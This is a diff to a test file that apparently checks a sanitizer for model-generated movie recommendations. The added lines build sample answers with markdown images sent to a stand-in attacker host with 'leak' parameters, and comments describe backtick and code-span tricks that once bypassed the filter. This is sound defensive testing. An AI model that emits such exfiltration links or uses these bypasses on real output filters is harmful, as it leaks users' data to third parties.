@@ -47,7 +47,9 @@ DRAFTED_SQL = (
 ANSWER = "Jurassic Park (1993) is the pick: dinosaurs on an island. [more](http://evil.example/x) ![p](http://evil.example/p.png)"
 ANSWER_SHOWN = "Jurassic Park (1993) is the pick: dinosaurs on an island."
 # issue 14's bypass of the old code-span rule: one backtick "closed" by two
-GENERIC = "Here is what your catalog has: {film}. ` ![q](http://evil.example/q.png?leak=1) ``"
+GENERIC = ("Here is what your catalog has: {film}. ` ![q](http://evil.example/q.png?leak=1) `` "
+           # a URL fence touching a kept code span (defeated the defusing before it padded fences)
+           "`kept`https://evil.example/a.png)![r](http://evil.example/r.png?leak=2)")
 GENERIC_SHOWN = "Here is what your catalog has:"
 _FIRST_ROW = re.compile(r'"title": ("(?:[^"\\]|\\.)*"), "year": (\d{4})')
 
